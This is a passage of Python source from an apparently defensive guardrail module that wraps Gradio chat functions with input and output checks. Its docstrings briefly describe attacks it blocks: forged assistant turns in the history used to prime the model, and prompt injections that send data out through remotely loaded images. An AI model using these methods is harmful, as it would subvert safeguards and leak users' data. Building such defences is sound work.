"""Gradio: guard a chat function with one line, keyed to the user behind each request.

``gr.ChatInterface(guard_chat(respond, pipeline))``. The wrapper asks Gradio for the request (it adds
a ``request: gr.Request`` parameter to the signature Gradio reads, unless ``respond`` already has a
``gr.Request`` parameter, of any name) and builds the guards' :class:`Context` from it: the user key is
the logged-in username, else the client's address, always pseudonymised with a keyed HMAC before any
guard sees it. The client's address is the peer's, unless the peer is a trusted proxy named in
``CLAUSEGUARD_TRUSTED_PROXIES``: then it is the right-most ``X-Forwarded-For`` hop that is not one.

What reaches ``respond`` is checked, not only the new message. The message goes through the whole
input stage (a multimodal ``{"text", "files"}`` message: its text, and its files through the input
image guards when there are any). Every earlier message not from the assistant goes through the input
stage without ``rate_limit`` (the client sends the history, so it can forge it, and Gradio keeps the
user's original words there even when they were blocked or redacted); ``respond`` gets the redacted
history, without the messages that block or cannot be read and the answers to them (refusing the turn
instead would end the chat for good, since Gradio keeps a blocked message in the history). The
assistant's messages go through the output stage, since a forged answer ("Sure, here is how...") primes
the model as well as a prompt does: one that blocks is left out with the exchange it ends (the
messages it answered), so roles still alternate; one that passes reaches ``respond`` as it was shown.
A history that is not a list of messages refuses the turn. Only its newest messages within ``guard_chat``'s
``history_messages`` and ``history_chars`` are checked and passed on; they are checked without being recorded
again, a text message's result remembered. The turn number (the first-turn AI notice) counts
the history's assistant messages only once one of them carries the notice the guards wrote.

Streaming chat functions yield the whole answer so far (Gradio's convention), so they are guarded in
``cumulative`` mode. The answer may be text, or messages: a ``gr.ChatMessage``, a ``{"role",
"content"}`` dict, a ``{"text", "files"}`` dict, or a list of them (an agent's thoughts and tool calls
beside its answer); every text they show goes through the output stage, each message keeping its type
and fields, and the image files they show through the output image guards (see :func:`guard_chat`). Images and other
content an answer would load from a host not in ``allowed_hosts`` are shown as text naming the host.
Gradio itself is imported only by :func:`guard_chat`; :func:`user_key` works on any object with
``headers``, ``client.host`` and ``username``.

Offline: importing this module turns Gradio's analytics off (``GRADIO_ANALYTICS_ENABLED=False``, unless
set otherwise), which otherwise call api.gradio.app and huggingface.co as each interface is built.
"""

from __future__ import annotations

import atexit
import copy
import dataclasses
import functools
import hashlib
import html
import inspect
import ipaddress
import logging
import os
import re
import shutil
import tempfile
import threading
import time
from collections import OrderedDict
from collections.abc import AsyncIterator, Callable, Generator, Iterator, Mapping, Sequence
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import TYPE_CHECKING, Any, Optional, TypeVar
from urllib.parse import urlsplit

from clauseguard.errors import GuardConfigError
from clauseguard.guards._base import Context
from clauseguard.guards._forwarded import Network, client_address
from clauseguard.guards._params import Action, Modality, Stage
from clauseguard.guards._verdict import Finding, Verdict
from clauseguard.guards.decorator import _REWOUND_MESSAGE, GuardBlocked, StreamMode, block_message, guarded
from clauseguard.guards.pii import pseudonymise
from clauseguard.guards.pipeline import Pipeline
from clauseguard.guards.sinks import NullSink

if TYPE_CHECKING:
    from clauseguard.guards.streaming import StreamGuard

__all__ = ["TRUSTED_PROXIES_ENV", "client_ip", "context_for", "guard_chat", "pseudonymise", "trusted_proxies",
           "user_key"]

TRUSTED_PROXIES_ENV = "CLAUSEGUARD_TRUSTED_PROXIES"
HISTORY_MESSAGES = 200  # guard_chat's defaults: the newest messages of a history it checks...
HISTORY_CHARS = 200_000  # ...and the characters of text they may hold
_REMEMBERED = 4096  # history messages whose result each guard_chat remembers (the least recently used go)
_REMEMBERED_CHARS = 20_000  # a longer message is checked again each turn (the history's cap bounds it)
_REQUEST_PARAM = "request"
log = logging.getLogger("clauseguard.guards")

# Read by Gradio each time an interface is built; its analytics thread also sends huggingface_hub telemetry.
os.environ.setdefault("GRADIO_ANALYTICS_ENABLED", "False")



# -- who is asking ----------------------------------------------------------------------------------


def _header(headers: Any, name: str) -> str | None:
    """Header ``name``: all its lines joined with commas, in order (a proxy may add a line of its own after
    the client's, and the first line alone is then the client's word), from starlette's ``Headers`` or any
    object with ``getlist``; else a mapping's one value."""
    if headers is None:
        return None
    getlist = getattr(headers, "getlist", None)
    if callable(getlist):
        lines = [str(line) for line in getlist(name)]
        return ", ".join(lines) if lines else None
    value = headers.get(name)
    if value is None and isinstance(headers, Mapping):  # a plain dict with other casing
        value = next((v for k, v in headers.items() if str(k).lower() == name), None)
    return str(value) if value is not None else None


def trusted_proxies() -> tuple[Network, ...]:
    """The networks in ``CLAUSEGUARD_TRUSTED_PROXIES`` (addresses or CIDRs, comma- or space-separated)."""
    return _parse_proxies(os.environ.get(TRUSTED_PROXIES_ENV, ""))


@functools.cache
def _parse_proxies(value: str) -> tuple[Network, ...]:
    try:
        return tuple(ipaddress.ip_network(p, strict=False) for p in value.replace(",", " ").split())
    except ValueError as err:
        raise GuardConfigError(f"not an address or network: {err}", where=TRUSTED_PROXIES_ENV) from err


def client_ip(request: Any, proxies: Sequence[Network] | None = None) -> str | None:
    """The client's address: the peer's; behind a trusted proxy, the right-most untrusted forwarded hop.

    ``proxies`` defaults to :func:`trusted_proxies`. The left-most hops are whatever the client sent,
    so they are never believed (a client rotating them would escape its rate limit).
    """
    host = getattr(getattr(request, "client", None), "host", None)
    peer = str(host) if host else None
    proxies = trusted_proxies() if proxies is None else proxies
    forwarded = _header(getattr(request, "headers", None), "x-forwarded-for")
    if not proxies or not forwarded:
        return peer
    return client_address(peer, forwarded, proxies)


def user_key(request: Any) -> str | None:
    """Pseudonymous key of the user: ``user:<hmac>`` when logged in, else ``ip:<hmac>``, else None.

    The address is keyed as the rate limit keys it (:func:`~clauseguard.guards.rate_limit.ip_bucket`):
    IPv4-mapped addresses as IPv4, IPv6 by its /64, so a host rotating through its /64 is one user."""
    from clauseguard.guards.rate_limit import ip_bucket

    if request is None:
        return None
    username = getattr(request, "username", None)
    if username:
        return pseudonymise("user", str(username))
    ip = client_ip(request)
    return pseudonymise("ip", ip_bucket(ip)) if ip else None


# -- the turn -------------------------------------------------------------------------------------


def _is_messages(history: Any) -> bool:
    return isinstance(history, Sequence) and not isinstance(history, str) and all(
        isinstance(m, Mapping) for m in history)


def _text_of(content: Any) -> str:
    """The text of a message's content: a string, or the text parts of a list (Gradio 6)."""
    if isinstance(content, str):
        return content
    if isinstance(content, Mapping):
        text = content.get("text")
        return text if isinstance(text, str) else ""
    if isinstance(content, Sequence):
        return "\n".join(_text_of(part) for part in content)
    return ""


def _turn(history: Any, notices: Sequence[str]) -> int:
    """Answers already given; 0 until an assistant message carries one of ``notices`` (when any).

    The client sends the history: counting its answers alone would let it drop the first-turn notice."""
    if not _is_messages(history):
        return 0
    answers = [_text_of(m.get("content")) for m in history if m.get("role") == "assistant"]
    if notices and not any(n in text for text in answers for n in notices):
        return 0
    return len(answers)


def context_for(request: Any, history: Any = None, *, notices: Sequence[str] = ()) -> Context:
    """The guards' context of one chat request (the raw IP stays in memory for ``rate_limit``'s own HMAC).

    ``notices``: the AI notices the output guards write; the turn counts only a history showing one."""
    return Context(user_key=user_key(request), ip=client_ip(request) if request is not None else None,
                   turn=_turn(history, notices))


# -- guard_chat -----------------------------------------------------------------------------------


def guard_chat(fn: Callable[..., Any], pipeline: Pipeline, *, stream: StreamMode = "cumulative",
               raise_on_block: bool = False, history_messages: int | None = HISTORY_MESSAGES,
               history_chars: int | None = HISTORY_CHARS, additional_outputs: int = 0,
               remote_images: str = "text", allowed_hosts: Sequence[str] = ()) -> Callable[..., Any]:
    """``fn(message, history, ...)`` guarded for ``gr.ChatInterface`` (or any Gradio event).

    The answer goes through the output guards. Text as @guarded checks it (a stream in ``stream`` mode).
    Messages (a ``gr.ChatMessage``, a ``{"role", "content"}`` dict, a list of them or of strings, as
    ChatInterface reads an answer, whatever role a message claims) have every text they show checked:
    each content text, thoughts' and tool calls' too, and a message's metadata ``title`` and ``log`` and
    its options' ``label`` and ``value``. Each message keeps its type, role, metadata and options, with
    its content as the guards let it through, or the block message when any of its texts blocks (a
    title, log or option that blocks is left out). A stream is told by its first item: messages
    are then read as ChatInterface shows them, each item the whole answer so far, and each text
    guarded as a cumulative stream (one that rewrites what it showed is blocked); a block ends the
    answer and closes ``fn``'s generator. See :class:`_Answer`.

    Files in an answer (a ``{"path"}`` dict, a ``{"type": "file", "file": {...}}`` part, a ``gr.Image``
    or ``gr.File``, returned alone or as, or in, a message's content) go through the output image guards
    when there are any: one that blocks, or cannot be read, makes its message's content the block
    message; the others are shown from a new file holding what the guards passed (changed: blurred, marked;
    or not: Gradio reads the path later, when it may hold another image), in the answer's shape (the
    path replaced, a new component); the new files are left for Gradio to serve, not deleted with the
    turn. Text beside them goes through the text guards as before.

    Content no configured guard can check (a file without output image guards, another component such
    as ``gr.HTML``, a file yielded after text in a stream that began as text) is a
    :class:`GuardConfigError` once the pipeline has output guards of any modality, returned or
    streamed, alone or in messages, as any answer that is not text is for @guarded: it is never shown
    unchecked, and a block message in its place would tell the user that the content broke the terms
    when it is the app that answered with something the guards cannot judge; the error, raised on every
    such answer, names the type so the developer finds it. Without output guards, answers are passed
    on as they are.
    A list of messages that is the history returned whole (a Blocks handler): its answers unchanged from the
    history ``fn`` was given are shown as they are, and a ``user`` message whose text is the user's own (as
    checked) is shown redacted, without the AI label or notice; any other message is checked as an answer.
    ``additional_outputs``: the number of a ChatInterface's additional outputs; ``fn`` then gives a tuple, its
    answer first, and each other value that is text goes through the output guards without their label (a
    blocked one is ``gr.skip()``); a refused turn gives the block message and ``gr.skip()`` for each.

    ``remote_images``: what an answer shown may load from a host not in ``allowed_hosts`` (each with its
    subdomains), the way a prompt injection sends data out with no click: Markdown images and HTML that loads
    as it is shown are replaced by text naming the host ("text", the default), removed ("remove"), or kept
    ("keep"). See :class:`_Remote`.

    The history is checked up to ``history_messages`` messages and ``history_chars`` characters of text (None:
    no limit): only its newest messages that fit are checked, and reach ``fn``, from a user's message on;
    older ones are left out, unchecked (the client sends the whole history each turn, so a forged one of
    thousands of messages would otherwise cost seconds per turn). Its messages are checked without being
    recorded (each was recorded when it was sent or answered), and a text message's result is remembered,
    so a turn costs about one new message.
    """
    import gradio as gr

    trusted_proxies()  # a bad CLAUSEGUARD_TRUSTED_PROXIES fails now, not on every request
    remote = _Remote.of(remote_images, allowed_hosts)
    sig = inspect.signature(fn)
    params = list(sig.parameters.values())
    if len(params) < 1:
        raise GuardConfigError("a chat function takes the message as its first parameter", where="guard_chat")
    own = _request_param(fn, params, gr.Request)
    extended = params if own else _with_request(params, gr.Request)
    target = fn
    if not own:  # a new function: the caller's own is never modified
        target = _drop_request(fn, [p.name for p in extended].index(_REQUEST_PARAM))
    limits = _History(_limit(history_messages, "history_messages"), _limit(history_chars, "history_chars"))
    if isinstance(additional_outputs, bool) or not isinstance(additional_outputs, int) or additional_outputs < 0:
        raise GuardConfigError(f"additional_outputs must be a whole number, 0 or more, not {additional_outputs!r}",
                               where="guard_chat")
    chat = _ChatGuard(pipeline, [p.name for p in extended], own or _REQUEST_PARAM,
                      history=params[1].name if len(params) > 1 else None, raise_on_block=raise_on_block,
                      limits=limits, extras=additional_outputs, remote=remote)
    text = guarded(chat.output, context_from=_Call.context_of, stream=stream,
                   raise_on_block=raise_on_block)(_replay(fn))
    inner = _takes_call(target)
    if additional_outputs:  # the answer is element 0 of what fn gives; the values of the other outputs follow
        inner = _mapped(inner, chat.split)
    answer = _answering(inner, chat, _screened(text, remote, stream))
    if additional_outputs:
        answer = _joined(answer, chat)
    wrapper = functools.update_wrapper(_checked_first(target, chat, answer), fn, updated=())
    wrapper.__signature__ = sig.replace(parameters=extended)  # type: ignore[attr-defined]
    if not own:
        wrapper.__annotations__ = {**getattr(fn, "__annotations__", {}), _REQUEST_PARAM: gr.Request}
    return wrapper


def _limit(value: Any, name: str) -> int | None:
    if value is None or (isinstance(value, int) and not isinstance(value, bool) and value > 0):
        return value
    raise GuardConfigError(f"{name} must be a positive whole number or None (no limit), not {value!r}",
                           where="guard_chat")


def _request_param(fn: Callable[..., Any], params: list[inspect.Parameter], request_type: type) -> str | None:
    """The parameter Gradio gives the request to (typed ``gr.Request``, as Gradio reads it), if any."""
    from gradio.utils import get_type_hints

    hints = get_type_hints(fn)
    for p in params:
        if hints.get(p.name) in (request_type, Optional[request_type]) or p.annotation in (  # noqa: UP045
                request_type, "gr.Request", "gradio.Request", "gr.Request | None"):
            return p.name
    if any(p.name == _REQUEST_PARAM for p in params):  # Gradio gives it nothing: every user would be one
        raise GuardConfigError(f"the chat function's parameter {_REQUEST_PARAM!r} is not typed gr.Request, so "
                               "Gradio passes it nothing (every user would share one rate-limit bucket): "
                               f"annotate it `{_REQUEST_PARAM}: gr.Request`, or rename it", where="guard_chat")
    return None


def _with_request(params: list[inspect.Parameter], request_type: type) -> list[inspect.Parameter]:
    """Add ``request: gr.Request = None`` after the positional parameters (Gradio reads only those)."""
    if any(p.kind is p.VAR_POSITIONAL for p in params):
        raise GuardConfigError("a chat function with *args cannot receive the request; "
                               "add a `request: gr.Request` parameter yourself", where="guard_chat")
    positional = [p for p in params if p.kind in (p.POSITIONAL_ONLY, p.POSITIONAL_OR_KEYWORD)]
    rest = [p for p in params if p not in positional]
    request = inspect.Parameter(_REQUEST_PARAM, inspect.Parameter.POSITIONAL_OR_KEYWORD, default=None,
                                annotation=request_type)
    return [*positional, request, *rest]


def _drop_request(fn: Callable[..., Any], index: int) -> Callable[..., Any]:
    """``fn``, of the same kind (generator, async...), called without the request Gradio passes."""

    def split(args: tuple[Any, ...], kwargs: dict[str, Any]) -> tuple[tuple[Any, ...], dict[str, Any]]:
        kwargs = {k: v for k, v in kwargs.items() if k != _REQUEST_PARAM}
        return (*args[:index], *args[index + 1:]), kwargs

    return _adapt(fn, split)


def _takes_call(fn: Callable[..., Any]) -> Callable[..., Any]:
    """``fn`` called with a checked :class:`_Call`: typed so, @guarded finds no prompt to check again."""
    def unpack(args: tuple[Any, ...], kwargs: dict[str, Any]) -> tuple[Any, dict[str, Any]]:
        call = args[0] if args else kwargs["call"]
        return call.args, call.kwargs

    inner = _adapt(fn, unpack)
    inner.__signature__ = inspect.Signature(  # type: ignore[attr-defined]
        [inspect.Parameter("call", inspect.Parameter.POSITIONAL_OR_KEYWORD, annotation=_Call)])
    return inner


def _replay(fn: Callable[..., Any]) -> Callable[..., Any]:
    """Of ``fn``'s kind (for @guarded to check as text): the answer ``fn`` gave, from :attr:`_Call.replay`
    (a stream: its first item, or ``_END``, and the rest). Named as ``fn``, which @guarded's errors name."""
    if inspect.isasyncgenfunction(fn):
        async def agen(call: _Call) -> Any:
            first, source = call.replay
            if first is not _END:
                yield first
            async for item in source:
                yield item
        replay: Callable[..., Any] = agen
    elif inspect.isgeneratorfunction(fn):
        def gen(call: _Call) -> Any:
            first, source = call.replay
            if first is not _END:
                yield first
            yield from source
        replay = gen
    elif inspect.iscoroutinefunction(fn):
        async def coro(call: _Call) -> Any:
            return call.replay
        replay = coro
    else:
        def plain(call: _Call) -> Any:
            return call.replay
        replay = plain
    replay.__name__ = getattr(fn, "__name__", replay.__name__)
    replay.__qualname__ = getattr(fn, "__qualname__", replay.__qualname__)
    replay.__signature__ = inspect.Signature(  # type: ignore[attr-defined]
        [inspect.Parameter("call", inspect.Parameter.POSITIONAL_OR_KEYWORD, annotation=_Call)])
    return replay


def _answering(fn: Callable[..., Any], chat: _ChatGuard, text: Callable[..., Any]) -> Callable[..., Any]:
    """Of ``fn``'s kind: ``fn``'s answer to a checked call, through the output guards. Messages (a
    ``gr.ChatMessage``, a ``{"role", "content"}`` dict, a list) are checked here; anything else by
    ``text`` (@guarded). A stream is told by its first item: one of messages is read as messages."""
    if inspect.isasyncgenfunction(fn):
        async def agen(call: _Call) -> AsyncIterator[Any]:
            source = fn(call)
            try:
                first = await anext(source, _END)
                if first is _END or not _in_messages(first):
                    call.replay = (first, chat.atext_stream(source))
                    chat.text_only(first)
                    async for item in text(call):
                        yield item
                    return
                async for item in _astreamed(chat, first, source, call):
                    yield item
            finally:
                await source.aclose()
        return agen
    if inspect.isgeneratorfunction(fn):
        def gen(call: _Call) -> Iterator[Any]:
            source = fn(call)
            try:
                first = next(source, _END)
                if first is _END or not _in_messages(first):
                    call.replay = (first, chat.text_stream(source))
                    chat.text_only(first)
                    yield from text(call)
                    return
                yield from _streamed(chat, first, source, call)
            finally:
                source.close()
        return gen
    if inspect.iscoroutinefunction(fn):
        async def coro(call: _Call) -> Any:
            call.replay = await fn(call)
            if _in_messages(call.replay):
                return await _arun(chat.answer(call).whole(call.replay))
            chat.text_only(call.replay)
            return await text(call)
        return coro

    def plain(call: _Call) -> Any:
        call.replay = fn(call)
        if _in_messages(call.replay):
            return _run(chat.answer(call).whole(call.replay))
        chat.text_only(call.replay)
        return text(call)
    return plain


def _mapped(fn: Callable[..., Any], convert: Callable[[Any, _Call], Any], *,
            stepped: bool = False) -> Callable[..., Any]:
    """``fn(call)``, of the same kind, each answer it gives (returned or yielded) passed through ``convert``;
    ``stepped``: ``convert`` gives the steps of a check, run here as ``fn`` runs (in a thread, or awaited)."""
    def now(item: Any, call: _Call) -> Any:
        return _run(convert(item, call)) if stepped else convert(item, call)

    async def later(item: Any, call: _Call) -> Any:
        return await _arun(convert(item, call)) if stepped else convert(item, call)

    if inspect.isasyncgenfunction(fn):
        async def agen(call: _Call) -> Any:
            source = fn(call)
            try:
                async for item in source:
                    yield await later(item, call)
            finally:
                await source.aclose()
        return agen
    if inspect.isgeneratorfunction(fn):
        def gen(call: _Call) -> Any:
            source = fn(call)
            try:
                for item in source:
                    yield now(item, call)
            finally:
                source.close()
        return gen
    if inspect.iscoroutinefunction(fn):
        async def coro(call: _Call) -> Any:
            return await later(await fn(call), call)
        return coro

    def plain(call: _Call) -> Any:
        return now(fn(call), call)
    return plain


def _joined(fn: Callable[..., Any], chat: _ChatGuard) -> Callable[..., Any]:
    """``fn(call)``, of the same kind, each answer it gives followed by the additional outputs' values."""
    def with_extras(item: Any, call: _Call) -> Steps[tuple[Any, ...]]:
        return (item, *(yield from chat.shown_extras(call)))

    return _mapped(fn, with_extras, stepped=True)


def _screened(fn: Callable[..., Any], remote: _Remote, mode: StreamMode) -> Callable[..., Any]:
    """``fn(call)`` (@guarded's answer of text), of the same kind, each text shown through ``remote``: a stream
    holds back an image or tag not closed yet, as the answer so far (``cumulative``) or as what it adds."""
    if remote.mode == "keep":
        return fn
    if inspect.isasyncgenfunction(fn):
        async def agen(call: _Call) -> Any:
            screen, source = _Screen(remote, mode), fn(call)
            try:
                async for item in source:
                    for out in screen.item(item):
                        yield out
                for out in screen.end():
                    yield out
            finally:
                await source.aclose()
        return agen
    if inspect.isgeneratorfunction(fn):
        def gen(call: _Call) -> Any:
            screen, source = _Screen(remote, mode), fn(call)
            try:
                for item in source:
                    yield from screen.item(item)
                yield from screen.end()
            finally:
                source.close()
        return gen
    if inspect.iscoroutinefunction(fn):
        async def coro(call: _Call) -> Any:
            return remote.shown(await fn(call))
        return coro

    def plain(call: _Call) -> Any:
        return remote.shown(fn(call))
    return plain


class _Screen:
    """A stream of text shown through a :class:`_Remote`, item by item (the answer so far, or its chunks)."""

    def __init__(self, remote: _Remote, mode: StreamMode) -> None:
        self.remote, self.mode = remote, mode
        self.text = ""  # the answer so far, as given
        self.sent = ""  # what of it was shown, screened
        self.stopped = False

    def item(self, item: Any) -> list[Any]:
        if not isinstance(item, str) or self.stopped:
            return [] if self.stopped else [item]
        self.text = item if self.mode == "cumulative" else self.text + item
        return self._show(self.remote.shown(self.text, final=False))

    def end(self) -> list[Any]:
        if self.stopped or not self.text:
            return []
        final = self.remote.shown(self.text)
        return self._show(final) if final != self.sent else []

    def _show(self, screened: str) -> list[str]:
        if self.mode == "cumulative":
            self.sent = screened
            return [screened]
        if not screened.startswith(self.sent):  # what a delta showed cannot be taken back: stop
            log.warning("guard_chat: a streamed answer's screened text changed what it had shown; stopped")
            self.stopped = True
            return ["\n\n" + _REWOUND_MESSAGE]
        added, self.sent = screened[len(self.sent):], screened
        return [added]


def _adapt(fn: Callable[..., Any], convert: Callable[[tuple[Any, ...], dict[str, Any]], tuple[Any, dict[str, Any]]],
           ) -> Callable[..., Any]:
    """``fn``, of the same kind (generator, async...), called with the arguments ``convert`` makes."""
    if inspect.isasyncgenfunction(fn):
        async def agen(*args: Any, **kwargs: Any) -> Any:
            a, k = convert(args, kwargs)
            async for item in fn(*a, **k):
                yield item
        return agen
    if inspect.isgeneratorfunction(fn):
        def gen(*args: Any, **kwargs: Any) -> Any:
            a, k = convert(args, kwargs)
            yield from fn(*a, **k)
        return gen
    if inspect.iscoroutinefunction(fn):
        async def coro(*args: Any, **kwargs: Any) -> Any:
            a, k = convert(args, kwargs)
            return await fn(*a, **k)
        return coro

    def plain(*args: Any, **kwargs: Any) -> Any:
        a, k = convert(args, kwargs)
        return fn(*a, **k)
    return plain


def _checked_first(fn: Callable[..., Any], chat: _ChatGuard, answer: Callable[..., Any]) -> Callable[..., Any]:
    """Of ``fn``'s kind: the input checks, then ``answer`` (``fn`` behind the output guards) or the refusal.

    The images a guard changed for ``fn`` (blurred) are deleted once the turn is over."""
    if inspect.isasyncgenfunction(fn):
        async def agen(*args: Any, **kwargs: Any) -> AsyncIterator[Any]:
            try:
                call = await _arun(chat.steps(args, kwargs))
            except _Refused as refused:
                yield chat.refusal(refused.verdict)
                return
            try:
                async for item in answer(call):
                    yield item
            finally:
                _delete(call.written)
        return agen
    if inspect.isgeneratorfunction(fn):
        def gen(*args: Any, **kwargs: Any) -> Iterator[Any]:
            try:
                call = _run(chat.steps(args, kwargs))
            except _Refused as refused:
                yield chat.refusal(refused.verdict)
                return
            try:
                yield from answer(call)
            finally:
                _delete(call.written)
        return gen
    if inspect.iscoroutinefunction(fn):
        async def coro(*args: Any, **kwargs: Any) -> Any:
            try:
                call = await _arun(chat.steps(args, kwargs))
            except _Refused as refused:
                return chat.refusal(refused.verdict)
            try:
                return await answer(call)
            finally:
                _delete(call.written)
        return coro

    def plain(*args: Any, **kwargs: Any) -> Any:
        try:
            call = _run(chat.steps(args, kwargs))
        except _Refused as refused:
            return chat.refusal(refused.verdict)
        try:
            return answer(call)
        finally:
            _delete(call.written)
    return plain


def _delete(paths: list[str]) -> None:
    for path in paths:
        Path(path).unlink(missing_ok=True)


# -- the input checks -----------------------------------------------------------------------------


@dataclass(frozen=True)
class _Check:
    """One check the steps ask for; the driver answers with its verdict (sync or async)."""

    pipeline: Pipeline
    content: Any
    modality: Modality
    context: Context
    stage: Stage = Stage.INPUT

    def at_stage(self) -> Context:
        return replace(self.context, stage=self.stage)

    def run(self) -> Verdict:
        return self.pipeline.check(self.content, stage=self.stage, context=self.at_stage(), modality=self.modality)

    async def arun(self) -> Verdict:
        return await self.pipeline.acheck(self.content, stage=self.stage, context=self.at_stage(),
                                          modality=self.modality)


@dataclass(frozen=True)
class _Push:
    """A step of one streamed text (``begin``, ``feed`` a chunk, ``end``); answered with the pieces released."""

    stream: StreamGuard
    op: str
    chunk: str = ""

    def run(self) -> list[str]:
        return self.stream.feed(self.chunk) if self.op == "feed" else getattr(self.stream, self.op)()

    async def arun(self) -> list[str]:
        if self.op == "feed":
            return await self.stream.afeed(self.chunk)
        return await getattr(self.stream, f"a{self.op}")()


@dataclass
class _Call:
    """The arguments for the chat function, checked, and the context of the turn."""

    args: list[Any]
    kwargs: dict[str, Any]
    context: Context
    written: list[str] = field(default_factory=list)  # images a guard changed, deleted after the turn
    replay: Any = None  # the answer of a text, handed to @guarded's output checks
    known: list[Any] = field(default_factory=list)  # the history as checked, handed to the chat function
    extras: tuple[Any, ...] | None = None  # the latest values the chat function gave its additional outputs
    extras_shown: tuple[Any, tuple[Any, ...]] | None = None  # those values, and what of them is shown
    own: set[str] = field(default_factory=set)  # the user's texts as checked: the message's, the history's

    @staticmethod
    def context_of(call: _Call) -> Context:
        return call.context


class _Refused(Exception):
    """Control flow: an input check blocked (never seen outside this module)."""

    def __init__(self, verdict: Verdict) -> None:
        self.verdict = verdict


T = TypeVar("T")
Steps = Generator["_Check | _Push", Any, T]  # checks written once, run by a sync or an async driver


def _run(steps: Steps[T]) -> T:
    try:
        step = next(steps)
        while True:
            step = steps.send(step.run())
    except StopIteration as done:
        return done.value  # type: ignore[no-any-return]


async def _arun(steps: Steps[T]) -> T:
    try:
        step = next(steps)
        while True:
            step = steps.send(await step.arun())
    except StopIteration as done:
        return done.value  # type: ignore[no-any-return]


def _refusal(reason: str) -> Verdict:
    finding = Finding(guard_id="guard_chat", category=None, score=1.0, message=reason, action=Action.BLOCK)
    return Verdict(allowed=False, action=Action.BLOCK, output=None, findings=(finding,), guard_id="guard_chat")


def _rewound() -> Verdict:
    """A streamed message changed text it had already yielded: the user gets decorator's plain message
    (the reason would mean nothing to them); the reason stays in the verdict's metadata and the log."""
    reason = "a streamed message changed text it had already yielded"
    log.warning("guard_chat: %s; the answer was stopped", reason)
    finding = Finding(guard_id="guard_chat", category=None, score=1.0, message=_REWOUND_MESSAGE, action=Action.BLOCK)
    return Verdict(allowed=False, action=Action.BLOCK, output=None, findings=(finding,), guard_id="guard_chat",
                   metadata={"error": reason})


class _ChatGuard:
    """The input checks of one chat turn, written once as steps that a sync or an async driver runs."""

    def __init__(self, pipeline: Pipeline, names: list[str], request: str, *, history: str | None,
                 raise_on_block: bool, limits: _History | None = None, extras: int = 0,
                 remote: _Remote | None = None) -> None:
        self.names, self.request, self.history, self.message = names, request, history, names[0]
        self.raise_on_block = raise_on_block
        self.limits = limits or _History()
        self.extras = extras  # a ChatInterface's additional_outputs (see guard_chat)
        self.remote = remote or _Remote()  # what an answer shown may load from other hosts
        self.input = pipeline
        # The inputs besides the message were counted with it: their content is checked, their rate is not.
        self.earlier = pipeline.without("rate_limit")
        self.output = pipeline.select(lambda g: g.spec.stage is Stage.OUTPUT)
        # The history's messages were recorded when they were sent (or answered): checked again, not recorded
        # again (a 100-turn chat left 15,050 records, a blocked message a new block on every later turn).
        self.past_input = Pipeline(list(self.earlier.guards), sink=NullSink(), max_chars=pipeline.max_chars)
        self.past_output = Pipeline(list(self.output.guards), sink=NullSink(), max_chars=pipeline.max_chars)
        self.notices = [g.params.notice for g in self.output.guards
                        if g.spec.type == "ai_disclosure" and getattr(g.params, "notice", "")]

    def text_only(self, answer: Any) -> None:
        """An answer that is not messages must be text (or None, or a stream's end) once there are output
        guards, of any modality: a file or component is a :class:`GuardConfigError`, never shown unchecked
        (@guarded refuses it only when there are output text guards)."""
        if self.output.guards and answer is not None and answer is not _END and not isinstance(answer, str):
            raise _unreadable(answer, "the answer")

    def text_stream(self, source: Iterator[Any]) -> Iterator[Any]:
        """``source``'s items, each held to :meth:`text_only`."""
        for item in source:
            self.text_only(item)
            yield item

    async def atext_stream(self, source: AsyncIterator[Any]) -> AsyncIterator[Any]:
        async for item in source:
            self.text_only(item)
            yield item

    def answer(self, call: _Call) -> _Answer:
        """An answer in messages to ``call``, to check."""
        return _Answer(self.output, call.context, raise_on_block=self.raise_on_block,
                       check_file=lambda file: self._file(self.output, file, call, Stage.OUTPUT, answer=True),
                       known=call.known, own=call.own, quiet=self.past_output, remote=self.remote)

    def refusal(self, verdict: Verdict) -> Any:
        if self.raise_on_block:
            raise GuardBlocked(verdict, Stage.INPUT)
        if self.extras:  # the additional outputs keep what they show
            from gradio import skip

            return (block_message(verdict), *(skip() for _ in range(self.extras)))
        return block_message(verdict)

    def split(self, item: Any, call: _Call) -> Any:
        """An answer with the values of a ChatInterface's additional outputs: the answer, the values kept."""
        if not isinstance(item, tuple) or len(item) != 1 + self.extras:
            raise GuardConfigError(f"with additional_outputs={self.extras} the chat function gives a tuple of its "
                                   f"answer and {self.extras} more values (one for each additional output), "
                                   f"not {type(item).__name__}"
                                   + (f" of {len(item)}" if isinstance(item, tuple) else ""), where="guard_chat")
        call.extras = item[1:]
        return item[0]

    def shown_extras(self, call: _Call) -> Steps[tuple[Any, ...]]:
        """The additional outputs' values as they may be shown: text through the output guards (their
        redactions, not their label or notice; one that blocks is skipped: the output keeps what it showed),
        numbers, booleans and None as they are. Checked once for each new set of values."""
        from gradio import skip

        if call.extras is None:  # none given yet (a stream held back its first answer)
            return tuple(skip() for _ in range(self.extras))
        if call.extras_shown is not None and call.extras_shown[0] is call.extras:
            return call.extras_shown[1]
        shown = []
        for value in call.extras:
            if value is None or isinstance(value, bool | int | float):
                shown.append(value)
            elif isinstance(value, str) and not self.output.guards:
                shown.append(self.remote.shown(value))
            elif not self.output.guards:
                shown.append(value)
            elif isinstance(value, str):
                verdict = yield _Check(self.output, value, Modality.TEXT, call.context, Stage.OUTPUT)
                if not verdict.allowed and self.raise_on_block:
                    raise GuardBlocked(verdict, Stage.OUTPUT)
                bare = _bare(verdict)
                shown.append(skip() if bare is None else self.remote.shown(bare))
            else:
                raise GuardConfigError(
                    f"the chat function gives {type(value).__name__} for one of its additional_outputs: the output "
                    "guards read text, so it cannot be checked, and it is not shown unchecked; give text, "
                    "numbers or None", where="guard_chat")
        call.extras_shown = (call.extras, tuple(shown))
        return call.extras_shown[1]

    def steps(self, args: tuple[Any, ...], kwargs: dict[str, Any]) -> Steps[_Call]:
        """The new message first (so a turn its history refuses still counts), then the history, then the
        chat function's other inputs (a ChatInterface's ``additional_inputs``: a system prompt box, an
        image), which a client sets as freely as the message."""
        call = _Call(list(args), dict(kwargs), Context())
        bound = dict(zip(self.names, call.args, strict=False)) | call.kwargs
        history = bound.get(self.history) if self.history else None
        call.context = replace(context_for(bound.get(self.request), history, notices=self.notices),
                               stage=Stage.INPUT)
        try:
            message = yield from self._message(bound.get(self.message), call)
            self._put(call, self.message, message)
            call.own.add(_text_of(message))
            if self.history in bound and history is not None:
                call.known = yield from self._history(history, call)
                self._put(call, self.history, call.known)
                call.own.update(_text_of(m.get("content")) for m in call.known if m.get("role") == "user")
            for name in self.names:
